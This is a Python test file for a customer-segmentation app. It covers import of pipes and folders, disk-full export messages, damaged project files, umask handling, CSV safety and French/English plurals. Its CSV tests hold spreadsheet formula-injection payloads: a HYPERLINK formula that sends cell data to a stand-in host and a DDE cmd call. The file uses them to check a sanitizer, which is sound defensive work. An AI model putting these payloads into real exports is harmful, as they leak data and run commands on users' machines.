"""Leftovers of the outside review (closing4.md, "Noticed and left alone"), each with its fix:

- a pipe or a folder chosen in the GUI is refused before its fingerprint is taken (a FIFO hung
  the hashing thread, and the app at exit);
- a full disk, a used-up quota and a read-only disk each get their own message when exporting;
- a damaged project says what is wrong in the user's language, never a Python error name;
- saving reads the umask without changing it;
- the mailing CSV keeps an address starting with "=" usable;
- counts in core texts take the right plural and digit grouping.
"""

from __future__ import annotations

import errno
import io
import os
import stat
import sys
import threading
from pathlib import Path

import pytest

from segmenter_app.core.analysis import Analysis
from segmenter_app.core.i18n import UserError

FIFO = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes need a POSIX system")


# --- 1. Pipes and folders from the GUI ------------------------------------------------------------


def _release(fifo: Path) -> None:
    """Let a reader blocked on opening ``fifo`` go (it reads end of file), if there is one."""
    try:
        fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
    except OSError:  # ENXIO: nobody has it open for reading
        return
    os.close(fd)


def _import_in_thread(paths: list[Path], timeout: float = 20.0) -> BaseException | None:
    """Run ``import_files`` in a thread; the exception it raised (None if none). A hang fails."""
    from segmenter_app.core.collect import import_files

    outcome: list[BaseException | None] = []

    def work() -> None:
        try:
            import_files(Analysis(), paths)
            outcome.append(None)
        except BaseException as exc:  # handed to the test
            outcome.append(exc)

    worker = threading.Thread(target=work, daemon=True)
    worker.start()
    worker.join(timeout)
    assert not worker.is_alive(), "import_files hung"
    return outcome[0]


@FIFO
def test_a_pipe_chosen_in_the_gui_is_refused_before_anything_opens_it(tmp_path):
    """The fingerprint thread opened the FIFO first and blocked for ever (the import itself
    raised, but the thread stayed, and Python waits for it at exit)."""
    good = tmp_path / "ventes.csv"
    good.write_text("order,date,customer,amount\nA1,2025-01-02,C1,10\n", encoding="utf-8")
    fifo = tmp_path / "tube.csv"
    os.mkfifo(fifo)
    before = set(threading.enumerate())
    try:
        error = _import_in_thread([good, fifo])
        assert isinstance(error, UserError) and error.key == "not_regular"
        assert "tube.csv" in error.text("fr") and "n'est pas un fichier ordinaire" in error.text("fr")
        hashing = [t for t in set(threading.enumerate()) - before if t.name.startswith("segmenter-hash")]
        for thread in hashing:
            thread.join(2.0)
        assert not [t for t in hashing if t.is_alive()], "a thread is still blocked on the pipe"
    finally:
        _release(fifo)


def test_a_folder_chosen_in_the_gui_is_said_as_a_folder(tmp_path):
    folder = tmp_path / "exports"
    folder.mkdir()
    error = _import_in_thread([folder])
    assert isinstance(error, UserError) and error.key == "folder"
    assert "is a folder" in error.text("en")


# --- 4. Saving reads the umask without setting it -------------------------------------------------

_UMASK = os.umask  # the real one, for the fixture (the tests replace os.umask)
POSIX_MODES = pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")


@pytest.fixture
def umask_027():
    """The process's umask set to 027 for the test (the test may set it; the code may not)."""
    previous = _UMASK(0o027)
    yield
    _UMASK(previous)


def _no_umask_calls(monkeypatch) -> None:
    def forbidden(*_args):
        raise AssertionError("os.umask called: it changes the umask for every thread")

    monkeypatch.setattr(os, "umask", forbidden)


@POSIX_MODES
def test_saving_a_project_and_a_workbook_never_sets_the_umask(tmp_path, monkeypatch, umask_027):
    """Setting the umask to read it, even briefly, gave files other threads made meanwhile the
    wrong permissions. The saved files still get the usual mode for new files (0666 - umask)."""
    from export_fixtures import make_analysis

    from segmenter_app.core import project
    from segmenter_app.core.export import write_workbook

    analysis = make_analysis(20)
    _no_umask_calls(monkeypatch)
    saved = project.save_project(analysis, tmp_path / "p.segmenter")
    assert stat.S_IMODE(saved.stat().st_mode) == 0o640
    write_workbook(analysis, tmp_path / "s.xlsx")
    assert stat.S_IMODE((tmp_path / "s.xlsx").stat().st_mode) == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["p.segmenter", "s.xlsx"]


@POSIX_MODES
def test_the_mode_is_read_from_proc_or_from_a_probe_file(tmp_path, monkeypatch, umask_027):
    from segmenter_app.core import file_mode

    _no_umask_calls(monkeypatch)
    if sys.platform.startswith("linux"):
        assert file_mode._umask_from_proc() == 0o027
    assert file_mode.new_file_mode(tmp_path) == 0o640
    # Without /proc (macOS, Windows): a probe file beside the target, removed after.
    monkeypatch.setattr(file_mode, "PROC_STATUS", str(tmp_path / "no-proc"))
    assert file_mode.new_file_mode(tmp_path) == 0o640
    assert list(tmp_path.iterdir()) == []


# --- 2. Export on a full disk, a used-up quota or a read-only disk --------------------------------

DISK_CASES = [
    (errno.ENOSPC, "disk_full", "the disk is full", "le disque est plein"),
    (errno.EDQUOT, "quota", "quota on this disk is used up", "quota d'espace sur ce disque est atteint"),
    (errno.EROFS, "read_only", "the disk is read-only", "le disque est en lecture seule"),
]


def _says_what_to_do(error: UserError, en: str, fr: str) -> None:
    english, french = error.text("en"), error.text("fr")
    assert en in english and fr in french
    assert "another program" not in english and "autre programme" not in french
    assert "another disk" in english and "autre disque" in french
    assert "Errno" not in english and "OSError" not in english


def _fail_with(code: int):
    def fail(*_args, **_kwargs):
        raise OSError(code, os.strerror(code))

    return fail


@pytest.mark.parametrize(("code", "key", "en", "fr"), DISK_CASES)
@pytest.mark.parametrize("where", ["create", "write", "close", "replace"])
def test_a_full_or_read_only_disk_is_said_as_such_wherever_the_export_meets_it(
    tmp_path, monkeypatch, code, key, en, fr, where
):
    """It said "the file is open in another program (Excel?)" or let the system's error through."""
    import tempfile

    import xlsxwriter.workbook
    from export_fixtures import make_analysis

    from segmenter_app.core.export import book as book_module
    from segmenter_app.core.export import write_workbook

    out = tmp_path / "segments.xlsx"
    out.write_bytes(b"the previous workbook")
    if where == "create":
        monkeypatch.setattr(tempfile, "mkstemp", _fail_with(code))
    elif where == "write":
        monkeypatch.setattr(book_module.Book, "tick", _fail_with(code))
    elif where == "close":  # XlsxWriter wraps it in its FileCreateError
        monkeypatch.setattr(xlsxwriter.workbook.Workbook, "_store_workbook", _fail_with(code))
    else:
        monkeypatch.setattr(os, "replace", _fail_with(code))
    with pytest.raises(UserError) as caught:
        write_workbook(make_analysis(30), out)
    assert caught.value.key == key
    _says_what_to_do(caught.value, en, fr)
    assert str(out) in caught.value.text("en")
    assert out.read_bytes() == b"the previous workbook"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["segments.xlsx"]


@pytest.mark.parametrize(("code", "key", "en", "fr"), DISK_CASES)
def test_the_mailing_files_and_the_key_file_say_it_too(tmp_path, monkeypatch, code, key, en, fr):
    from segmenter_app.core.export import atomic

    target = tmp_path / "01 Champions.csv"

    class FullDisk(io.StringIO):
        def write(self, _text: str) -> int:
            raise OSError(code, os.strerror(code))

    real_open = Path.open
    monkeypatch.setattr(
        Path,
        "open",
        lambda self, mode="r", *a, **k: FullDisk() if "w" in mode else real_open(self, mode, *a, **k),
    )
    with pytest.raises(UserError) as caught:
        atomic.replace_text_file(target, "email\r\na@b.fr\r\n", encoding="utf-8-sig")
    monkeypatch.undo()
    assert caught.value.key == key
    _says_what_to_do(caught.value, en, fr)
    assert list(tmp_path.iterdir()) == []


def test_other_write_errors_keep_their_messages(tmp_path, monkeypatch):
    """A file open in Excel still says so; an error that is nobody's disk still goes on as a bug."""
    from export_fixtures import make_analysis

    from segmenter_app.core.export import book as book_module
    from segmenter_app.core.export import write_workbook

    monkeypatch.setattr(os, "replace", _fail_with(errno.EACCES))
    with pytest.raises(UserError) as caught:
        write_workbook(make_analysis(10), tmp_path / "open.xlsx")
    assert caught.value.key == "locked" and "Close the file" in caught.value.text("en")
    monkeypatch.undo()
    monkeypatch.setattr(book_module.Book, "tick", _fail_with(errno.EBADF))
    with pytest.raises(OSError) as raw:
        write_workbook(make_analysis(10), tmp_path / "bug.xlsx")
    assert raw.value.errno == errno.EBADF


def test_the_command_line_says_the_disk_is_full_with_exit_2(tmp_path, monkeypatch, capsys):
    import json

    import xlsxwriter.workbook
    from test_cli_hostile import cli, shop_csv

    from segmenter_app.cli import EXIT_INPUT, EXIT_OK

    shop = shop_csv(tmp_path / "shop.csv")
    report = tmp_path / "report.json"
    code, err = cli(capsys, "segment", str(shop), "--out", str(tmp_path / "ok.xlsx"), "--report", str(report))
    assert code == EXIT_OK, err
    keys = set(json.loads(report.read_text(encoding="utf-8")))
    monkeypatch.setattr(xlsxwriter.workbook.Workbook, "_store_workbook", _fail_with(errno.ENOSPC))
    for lang, words, wrong in (
        ("en", "the disk is full", "another program"),
        ("fr", "le disque est plein", "autre programme"),
    ):
        out = tmp_path / f"full-{lang}.xlsx"
        code, err = cli(capsys, "segment", str(shop), "--out", str(out), "--lang", lang)
        assert code == EXIT_INPUT, err
        assert words in err and wrong not in err and str(out) in err
        assert not out.exists()
    monkeypatch.undo()
    code, err = cli(capsys, "segment", str(shop), "--out", str(tmp_path / "ok.xlsx"), "--report", str(report))
    assert code == EXIT_OK and set(json.loads(report.read_text(encoding="utf-8"))) == keys


def test_the_export_dialog_says_the_disk_is_full(qtbot, tmp_path, monkeypatch):
    """The GUI showed "Something went wrong inside Segmenter" or "open in another program"."""
    import xlsxwriter.workbook
    from PySide6.QtGui import QUndoStack
    from test_ui_export import segmented_analysis

    from segmenter_app.ui import errors, settings
    from segmenter_app.ui.export_dialog import ExportDialog
    from segmenter_app.ui.steps.base import StepContext
    from segmenter_app.ui.tasks import TaskRunner

    settings.use_settings_file(tmp_path / "settings.ini")
    try:
        ctx = StepContext(segmented_analysis(60), TaskRunner(), QUndoStack())
        dialog = ExportDialog(ctx)
        qtbot.addWidget(dialog)
        dialog.workbook_path.setText(str(tmp_path / "segments.xlsx"))
        monkeypatch.setattr(xlsxwriter.workbook.Workbook, "_store_workbook", _fail_with(errno.ENOSPC))
        dialog.start()
        assert ctx.tasks.wait_idle(60)
        qtbot.waitUntil(lambda: bool(errors.open_dialogs()), timeout=5000)
        texts = [box.text() for box in errors.open_dialogs()]
        for box in errors.open_dialogs():
            box.close()
        assert any("the disk is full" in text for text in texts), texts
        assert not any("another program" in text or "went wrong" in text for text in texts), texts
        assert not (tmp_path / "segments.xlsx").exists()
    finally:
        settings.use_settings_file(None)


# --- 3. Damaged projects say what is wrong, never a Python error name -----------------------------

PYTHON_NAMES = ("KeyError", "TypeError", "ValueError", "JSONDecodeError", "BadZipFile", "Error", "Traceback")


@pytest.fixture(scope="module")
def saved_project(tmp_path_factory) -> Path:
    from export_fixtures import make_analysis

    from segmenter_app.core import project

    return project.save_project(make_analysis(40), tmp_path_factory.mktemp("saved") / "p.segmenter")


def _parts(path: Path) -> dict[str, bytes]:
    import zipfile

    with zipfile.ZipFile(path) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def _write(path: Path, parts: dict[str, bytes]) -> Path:
    import zipfile

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def _manifest(parts: dict[str, bytes], **changes) -> dict[str, bytes]:
    import json

    manifest = json.loads(parts["manifest.json"])
    for key, value in changes.items():
        if value is None:
            manifest.pop(key)
        else:
            manifest[key] = value
    return {**parts, "manifest.json": json.dumps(manifest).encode()}


def _damage(source: Path, target: Path, how: str) -> Path:
    import json

    parts = _parts(source)
    table = next(name for name in parts if name.startswith("tables/"))
    body = json.loads(parts["analysis.json"])
    if how == "cut short":
        target.write_bytes(source.read_bytes()[: source.stat().st_size // 2])
        return target
    if how == "corrupted":  # one byte of a stored table flipped: its CRC no longer matches
        data = bytearray(source.read_bytes())
        start = data.find(parts[table][100:140])
        data[start + 5] ^= 0xFF
        target.write_bytes(bytes(data))
        return target
    if how == "no manifest":
        del parts["manifest.json"]
    elif how == "manifest not json":
        parts["manifest.json"] = b'{"format": "segmenter-project", "vers'
    elif how == "no version":
        parts = _manifest(parts, version=None)
    elif how == "version as text":
        parts = _manifest(parts, version="1")
    elif how == "tables as a list":
        parts = _manifest(parts, tables=["transactions"])
    elif how == "table without file":
        tables = json.loads(parts["manifest.json"])["tables"]
        tables[next(iter(tables))].pop("file")
        parts = _manifest(parts, tables=tables)
    elif how == "no analysis":
        del parts["analysis.json"]
    elif how == "analysis not json":
        parts["analysis.json"] = parts["analysis.json"][:-20]
    elif how == "no table":
        del parts[table]
    elif how == "table not parquet":
        parts[table] = b"PAR1 not really"
    elif how == "wrong types":
        body["fields"]["as_of"] = {"__date__": 20250101}
        parts["analysis.json"] = json.dumps(body).encode()
    elif how == "unlisted table":
        body["fields"]["transactions"] = {"__table__": "nowhere"}
        parts["analysis.json"] = json.dumps(body).encode()
    elif how == "not an analysis":
        parts["analysis.json"] = b"[1, 2, 3]"
    return _write(target, parts)


DAMAGES = [
    ("cut short", "it is cut short", "il est tronqué"),
    ("corrupted", "is corrupted", "est altérée"),
    ("no manifest", "its part manifest.json is missing", "il lui manque sa partie manifest.json"),
    ("manifest not json", "its part manifest.json is not valid JSON", "n'est pas du JSON valide"),
    ("no version", "no valid 'version' entry", "pas d'entrée « version » valide"),
    ("version as text", "no valid 'version' entry", "pas d'entrée « version » valide"),
    ("tables as a list", "no valid 'tables' entry", "pas d'entrée « tables » valide"),
    ("table without file", "no valid 'tables' entry", "pas d'entrée « tables » valide"),
    ("no analysis", "its part analysis.json is missing", "il lui manque sa partie analysis.json"),
    ("analysis not json", "its part analysis.json is not valid JSON", "n'est pas du JSON valide"),
    ("no table", "is missing", "il lui manque sa partie tables/"),
    ("table not parquet", "cannot be read", "est illisible"),
    ("wrong types", "holds values of the wrong kind", "contient des valeurs du mauvais type"),
    ("unlisted table", "a table (nowhere) the manifest does not list", "ne mentionne pas"),
    ("not an analysis", "holds values of the wrong kind", "contient des valeurs du mauvais type"),
]


@pytest.mark.parametrize(("how", "en", "fr"), DAMAGES)
def test_a_damaged_project_says_what_is_wrong_in_the_users_language(tmp_path, saved_project, how, en, fr):
    """It said "damaged (KeyError)", or "not a Segmenter project" for a project cut short."""
    from segmenter_app.core import project

    broken = _damage(saved_project, tmp_path / "projet.segmenter", how)
    with pytest.raises(UserError) as caught:
        project.load_project(broken)
    english, french = caught.value.text("en"), caught.value.text("fr")
    assert caught.value.key == "damaged", english
    assert en in english and fr in french, (english, french)
    assert "Open an earlier copy" in english and "Ouvrez une copie antérieure" in french
    assert not [name for name in PYTHON_NAMES if name in english or name in french], (english, french)


def test_other_zips_and_other_files_are_still_not_projects(tmp_path):
    """A zip without the project's parts, or a file that is no zip at all, is not "damaged"."""
    from segmenter_app.core import project

    cases = {
        "other.segmenter": _write(tmp_path / "other.zip", {"word/document.xml": b"<w/>"}),
        "text.segmenter": tmp_path / "text.segmenter",
        "pk.segmenter": tmp_path / "pk.segmenter",
    }
    cases["text.segmenter"].write_text("order,date\n", encoding="utf-8")
    cases["pk.segmenter"].write_bytes(b"PK\x03\x04garbage")
    for path in cases.values():
        with pytest.raises(UserError) as caught:
            project.load_project(path)
        assert caught.value.key == "not_project", caught.value.text("en")


def test_the_measure_command_says_it_too(tmp_path, saved_project, capsys):
    from test_cli_hostile import SHOP_IDS, cli, results_csv

    from segmenter_app.cli import EXIT_INPUT

    broken = _damage(saved_project, tmp_path / "projet.segmenter", "no table")
    results = results_csv(tmp_path / "res.csv", SHOP_IDS, ["oui", "non"] * 20, ["10"] * 40)
    code, err = cli(
        capsys, "measure", str(broken), str(results), "--out", str(tmp_path / "m.xlsx"), "--lang", "fr"
    )
    assert code == EXIT_INPUT
    assert "est endommagé (il lui manque sa partie tables/" in err and "KeyError" not in err


def test_saving_on_a_read_only_disk_says_so_in_words(tmp_path, saved_project, monkeypatch):
    """It said "(Read-only file system). Close it if another program has it open"."""
    import tempfile

    from segmenter_app.core import project

    analysis = project.load_project(saved_project)
    monkeypatch.setattr(tempfile, "mkstemp", _fail_with(errno.EROFS))
    with pytest.raises(UserError) as caught:
        project.save_project(analysis, tmp_path / "copie.segmenter")
    assert "le disque est en lecture seule" in caught.value.text("fr")
    assert "another program" not in caught.value.text("en")


# --- 5. The mailing CSV keeps an address starting with "=" usable ---------------------------------

PLAIN_BUT_RISKY = [
    "=info@boutique.fr",
    "+33612345678@sms.example.com",
    "-jo.doe@shop.co.uk",
    "=a.b_c%d@x-y.fr",
]
HARMFUL = [
    '=HYPERLINK("http://e.vil/?"&B2,"@x.com")',  # passes the mailing's loose address check
    "=cmd|'/Ccalc'!A0@x.com",
    "@SUM(1)@x.com",
    "=１+1@x.com",
]


def test_csv_safe_email_keeps_plain_addresses_exact_and_neutralizes_the_rest():
    from segmenter_app.core.export.safe_text import csv_safe, csv_safe_email

    for address in [*PLAIN_BUT_RISKY, "client1@example.fr"]:
        assert csv_safe_email(address) == address
    for text in HARMFUL:
        assert csv_safe_email(text) == "'" + text == csv_safe(text)
    assert csv_safe_email(None) == ""
    # Whatever is written unchanged has nothing a formula needs to reach outside the cell.
    for address in PLAIN_BUT_RISKY:
        assert not set(address) & set("()|!'\"[]{}&,;: ")


def test_the_mailing_csv_lists_a_plain_address_starting_with_a_formula_sign_as_it_is(tmp_path):
    """It listed "'=info@boutique.fr", an address that bounces. The workbook is unchanged: every
    address is a text cell that reads back as it is."""
    import csv

    import openpyxl
    from export_fixtures import make_analysis

    from segmenter_app.core import schema as s
    from segmenter_app.core.export import write_mailing_csvs, write_workbook
    from segmenter_app.core.export.mailing import recipients

    analysis = make_analysis(40)
    chosen = [*PLAIN_BUT_RISKY, *HARMFUL[:2]]
    for cid, address in zip(recipients(analysis).index, chosen, strict=False):
        analysis.customers.loc[cid, s.EMAIL] = address
    assert len(recipients(analysis)) == len(recipients(make_analysis(40)))
    emails: set[str] = set()
    for path in write_mailing_csvs(analysis, tmp_path / "envoi"):
        text = path.read_bytes().decode("utf-8-sig")
        emails |= {row[0] for row in list(csv.reader(text.splitlines()))[1:]}
    for address in PLAIN_BUT_RISKY:
        assert address in emails
    for text in HARMFUL[:2]:
        assert "'" + text in emails and text not in emails
    write_workbook(analysis, tmp_path / "s.xlsx")
    book = openpyxl.load_workbook(tmp_path / "s.xlsx", read_only=True)
    cells = {str(c) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row}
    assert set(chosen) <= cells  # stored as text (quote prefix), never as a formula


# --- 6. Counts in core texts: plurals and digit grouping ------------------------------------------


def test_the_plural_rules_of_each_language():
    from segmenter_app.core.i18n import group_digits, takes_plural

    assert [takes_plural(n, "en") for n in (0, 1, 1.5, 2)] == [True, False, True, True]
    assert [takes_plural(n, "fr") for n in (0, 1, 1.5, 2)] == [False, False, False, True]
    assert group_digits(1234567, "en") == "1,234,567" and group_digits(1234567, "fr") == "1\u202f234\u202f567"


def test_the_act_portrait_groups_digits_and_agrees_in_number():
    """It said "12345 customers" and "1,5 commandes en moyenne"."""
    from segmenter_app.core.actions.persona import portrait
    from segmenter_app.core.actions.profile import SegmentProfile

    big = SegmentProfile(key="k", name="Fidèles", size=12345, frequency_mean=1.5, cities=2345)
    big.top_city, big.top_city_share = "Lyon", 0.1
    assert portrait(big, "en").startswith(
        "12,345 customers, from 2,345 different places, 1.5 orders on average"
    )
    assert portrait(big, "fr").startswith(
        "12\u202f345 clients, de 2\u202f345 localités différentes, 1,5 commande en moyenne"
    )
    big.frequency_mean = 2.5
    assert "2,5 commandes en moyenne" in portrait(big, "fr")


def test_a_control_group_of_one_customer_is_singular():
    from segmenter_app.core.actions.control import control_advice

    note = control_advice(10, 0.1, 0.05, "en")
    assert note["control_size"] == 1
    assert "with 1 customer held out" in note["control_note"]
    assert "avec 1 client mis de côté" in control_advice(10, 0.1, 0.05, "fr")["control_note"]
    big = control_advice(200000, 0.1, 0.05, "fr")["control_note"]
    assert big.startswith("Groupe témoin de 20\u202f000 clients")


def test_rfm_rules_say_one_day_in_the_singular():
    from segmenter_app.core.segmentation.rfm_cuts import describe_cut_points

    lines = describe_cut_points({"recency": [1.0, 30.0]}, 3, "en")["recency"]
    assert lines == [
        "R 3: last purchase at most 1 day ago",
        "R 2: last purchase at most 30 days ago",
        "R 1: last purchase more than 30 days ago",
    ]
    french = describe_cut_points({"recency": [1.0]}, 2, "fr")["recency"]
    assert french == [
        "R 2 : dernier achat il y a au plus 1 jour",
        "R 1 : dernier achat il y a plus de 1 jour",
    ]


def test_refusals_with_small_counts_agree_in_number():
    """ "1 distinct profiles", "only 1 customers bought", "it covers 1 days", "1 have a purchase"."""
    from segmenter_app.core.i18n import UserError as Error
    from segmenter_app.core.i18n import counted
    from segmenter_app.core.segmentation.clusters import MESSAGES as CLUSTERS
    from segmenter_app.core.segmentation.predictive.messages import MESSAGES as PREDICTIVE

    one = Error(CLUSTERS, "too_few", profiles=counted(CLUSTERS, "profiles", 1))
    assert "clusters: 1 distinct profile, at least 3" in one.text("en")
    assert "groupes : 1 profil distinct, il en faut" in one.text("fr")
    two = Error(CLUSTERS, "too_few", profiles=counted(CLUSTERS, "profiles", 2))
    assert "2 distinct profiles" in two.text("en") and "2 profils distincts" in two.text("fr")
    repeat = Error(PREDICTIVE, "thin_repeat", bought=counted(PREDICTIVE, "bought", 1), needed=20)
    assert "only 1 customer bought on two different days" in repeat.text("en")
    assert "seulement 1 client a acheté deux jours différents" in repeat.text("fr")
    span = Error(PREDICTIVE, "thin_span", days=counted(PREDICTIVE, "days", 1), needed=56)
    assert "it covers 1 day," in span.text("en") and "il couvre 1 jour," in span.text("fr")
    having = Error(PREDICTIVE, "thin_customers", having=counted(PREDICTIVE, "having", 1), needed=50)
    assert "predict: 1 has a purchase" in having.text("en") and "prédire : 1 a un achat" in having.text("fr")


def test_the_report_and_the_workbook_count_in_words(tmp_path):
    """ "1 customer(s) have only returns"; "12,345 clients" with an English comma in French."""
    import openpyxl
    from export_fixtures import make_analysis

    from segmenter_app.core.export import labels, write_workbook
    from segmenter_app.core.i18n import count_text
    from segmenter_app.core.report import T as REPORT

    assert count_text(REPORT, "no_purchase", 1, "en").startswith("1 customer has only returns")
    assert count_text(REPORT, "no_purchase", 1, "fr").startswith("1 client n'a que des retours")
    assert count_text(REPORT, "no_purchase", 3, "fr").startswith("3 clients n'ont que des retours")
    assert count_text(labels.METHOD, "left_out_columns", 1, "en", sheet="S").startswith(
        "Left out: sheet S, its last column ("
    )
    write_workbook(make_analysis(40, lang="fr"), tmp_path / "s.xlsx")
    book = openpyxl.load_workbook(tmp_path / "s.xlsx", read_only=True)
    texts = {str(c) for row in book.worksheets[0].iter_rows(values_only=True) for c in row if c}
    assert any(t.startswith("40 clients, méthode") for t in texts), texts
    assert count_text(labels.METHOD, "summary_subtitle", 12345, "fr", method="rfm") == (
        "12\u202f345 clients, méthode : rfm"
    )
